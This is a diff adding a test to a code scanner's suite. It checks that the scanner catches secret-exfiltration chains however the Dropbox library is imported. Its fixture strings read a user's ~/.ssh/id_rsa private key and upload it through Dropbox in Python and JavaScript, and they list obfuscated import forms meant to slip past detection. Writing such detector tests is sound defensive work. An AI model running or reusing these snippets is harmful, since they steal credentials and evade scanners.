@@ -10,6 +10,7 @@ from sekisho.inspection.languages.mentions import handed_on
 from sekisho.inspection.languages.python_calls import PYTHON
 from sekisho.inspection.languages.tampering import ADDRESS
 from sekisho.inspection.prefilter import worth_reading
+from support.inspection import Files, inspected
 
 _ELSEWHERE = {"sys.path.insert", "sys.path.append", "pandas.query"}
 """What takes a value in the same source only, where that has a word of its own."""
@@ -99,3 +100,29 @@ def test_letters_that_nobody_sees_are_read() -> None:
 def test_a_name_in_other_letters_is_read() -> None:
     assert worth_reading("\uff45\uff58\uff45\uff43('1')\n".encode(), "python")
     assert worth_reading(b"ev\\u0061l('1')\n", "javascript")
+
+
+OUT = {  # a claim: a helper without any other telling word, and how the library that takes things out gets into it
+    "two blanks": ("out.py", "import  dropbox\n"),
+    "a tab": ("out.py", "import\tdropbox\n"),
+    "after a comma": ("out.py", "import json,dropbox\n"),
+    "on the next line": ("out.py", "import json, \\\n  dropbox\n"),
+    "as something else": ("out.py", "import dropbox as dropbox\n"),
+    "written with escapes": ("out.mjs", 'import { Dropbox } from "drop\\x62ox";\n'),
+}
+HELPERS = {
+    "out.py": "def put(what):\n    dropbox.Dropbox('t').files_upload(what, '/k')\n",
+    "out.mjs": "export const put = (what) => new Dropbox({ token: 't' }).filesUpload({ path: '/k', contents: what });\n",
+}
+STARTS = {
+    "run.py": "import os\nfrom out import put\nput(open(os.path.expanduser('~/.ssh/id_rsa')).read())\n",
+    "run.mjs": "import { put } from './out.mjs';\nimport fs from 'fs';\nimport os from 'os';\n"
+               "put(fs.readFileSync(os.homedir() + '/.ssh/id_rsa'));\n",
+}  # fmt: skip
+
+
+@pytest.mark.parametrize(("name", "begins"), OUT.values(), ids=OUT.keys())
+def test_a_library_that_takes_things_out_is_known_however_it_is_imported(name: str, begins: str) -> None:
+    files: Files = {name: begins + HELPERS[name], **{n: t for n, t in STARTS.items() if n[-3:] == name[-3:]}}
+    found = inspected(files)
+    assert [chain.rule for chain in found.chains] == ["secrets_sent"]
